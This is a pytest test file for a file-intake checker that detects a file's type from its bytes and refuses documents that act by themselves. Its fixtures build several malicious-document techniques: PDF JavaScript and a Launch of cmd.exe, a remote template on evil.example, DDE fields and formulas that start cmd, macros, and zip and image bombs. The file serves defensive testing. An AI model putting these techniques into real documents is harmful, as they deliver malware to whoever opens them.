"""Files of sources: told by their bytes, and refused where something in them acts by itself."""

from __future__ import annotations

from typing import Any

import pikepdf
import pytest

from jurisdictions.record.evidence.looking_through import OFFICE, look_through
from jurisdictions.record.faults import Refused
from tests.record.evidence_files import document, letter, packed, pdf, picture, workbook

PLAIN = {
    "a PDF": (letter(), "application/pdf"),
    "a PDF after a blank line": (b"\n" + letter(), "application/pdf"),
    "PNG": (picture(), "image/png"),
    "JPEG": (picture("JPEG"), "image/jpeg"),
    "GIF": (picture("GIF"), "image/gif"),
    "WebP": (picture("WEBP"), "image/webp"),
    "Word": (document(), OFFICE["docx"]),
    "Word with a link": (
        document(
            word___rels__document_xml_rels=b'<Relationships><Relationship Type="http://x/hyperlink"'
            b' Target="https://example.org/" TargetMode="External"/></Relationships>'
        ),
        OFFICE["docx"],
    ),
    "Excel": (workbook(b"<worksheet><f>SUM(A1:A2)</f></worksheet>"), OFFICE["xlsx"]),
    "text": ("Señor alguacil: no.\n".encode(), "text/plain"),
    "text of Windows": ("Señor alguacil".encode("cp1252"), "text/plain"),
    "text of two bytes": ("Señor".encode("utf-16"), "text/plain"),
    "a table": (b"place,day\nKane,2010-07-13\n", "text/plain"),
    "a page": (b"<!DOCTYPE html><script>alert(1)</script>", "text/html"),
    "a page with a drawing": (b"<html><body><svg></svg></body></html>", "text/html"),
}


@pytest.mark.parametrize("name", sorted(PLAIN))
def test_what_is_told_of_a_file_is_told_by_its_bytes(name: str) -> None:
    content, media_type = PLAIN[name]
    # Its name says something else on purpose.
    assert look_through(content, "letter.exe").media_type == media_type


def acting(action: dict[str, Any]) -> bytes:
    """A PDF that does something once it is opened."""

    def change(made: Any) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(action)

    return pdf(change)


def holding(made: Any) -> None:
    made.attachments["virus.exe"] = b"MZ"


def in_a_form(made: Any) -> None:
    fields = pikepdf.Array([pikepdf.Dictionary(AA=pikepdf.Dictionary(K=script()))])
    made.Root.AcroForm = made.make_indirect(pikepdf.Dictionary(Fields=fields))


def script() -> Any:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def of_xfa(made: Any) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"))


MACRO = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
CUT_DDE = b"<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\\\cmd</w:instrText>"
ACTING = {
    "a script on opening": (acting({"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"}), "acts"),
    "a script in a form": (pdf(in_a_form), "acts"),
    "a program": (acting({"/S": pikepdf.Name.Launch, "/F": "cmd.exe"}), "acts"),
    "a file in the file": (pdf(holding), "other files"),
    "a form of XFA": (pdf(of_xfa), "acts"),
    "a script in packed objects": (
        pdf(in_a_form, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "acts",
    ),
    "a script no table leads to": (letter() + b"\n9 0 obj<</S/JavaScript>>endobj\n", "acts"),
    "a PDF with a password": (
        pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")),
        "password",
    ),
    "half a PDF": (letter()[:40], "whole"),
    "half a picture": (picture()[:12], "whole"),
    "a drawing with scripts": (b'<?xml version="1.0"?><svg onload="x()"/>', "SVG"),
    "an empty drawing": (b"<svg/>", "SVG"),
    "a drawing of another name space": (b"<a:svg xmlns:a='http://www.w3.org/2000/svg'/>", "SVG"),
    "macros by their part": (document(word__vbaProject_bin=b"x"), "macros"),
    "macros of Excel": (workbook(xl__vbaProject_bin=b"x"), "macros"),
    "macros by their type": (
        packed({"[Content_Types].xml": MACRO, "word/document.xml": b"<w:document/>"}),
        "macros",
    ),
    "a template elsewhere": (document(word___rels__settings_xml_rels=TEMPLATE), "links"),
    "another workbook": (workbook(xl__externalLinks__externalLink1_xml=b"<x/>"), "links"),
    "a file in a document": (document(word__embeddings__oleObject1_bin=b"x"), "other files"),
    "a field that starts a program": (document(CUT_DDE), "links"),
    "a formula that starts a program": (
        workbook(b"<worksheet><f>cmd|' /C calc'!A0</f></worksheet>"),
        "links",
    ),
    "an old document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Old Word"),
    "a zip": (packed({"letter.pdf": letter()}), "one by one"),
    "a bomb": (document(b"\0" * 30_000_000), "too large"),
    "half a zip": (document()[:60], "whole"),
    "a program by itself": (b"MZ\x90\0\3\0\0\0", "not taken"),
    "a text that prints": (b"%!PS-Adobe-3.0\n", "other files"),
    "nothing": (b"", "empty"),
}


@pytest.mark.parametrize("name", sorted(ACTING))
def test_a_file_that_acts_is_refused_with_a_clear_word(name: str) -> None:
    content, word = ACTING[name]
    with pytest.raises(Refused) as refused:
        look_through(content, "letter.pdf")
    assert word in str(refused.value)
    assert "letter.pdf" in str(refused.value)


def test_a_picture_that_would_fill_the_memory_is_refused() -> None:
    wide = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + (60_000).to_bytes(4, "big") * 2
    with pytest.raises(Refused, match=r"large|whole"):
        look_through(wide + b"\x08\x02\0\0\0" + b"\0" * 60, "wide.png")
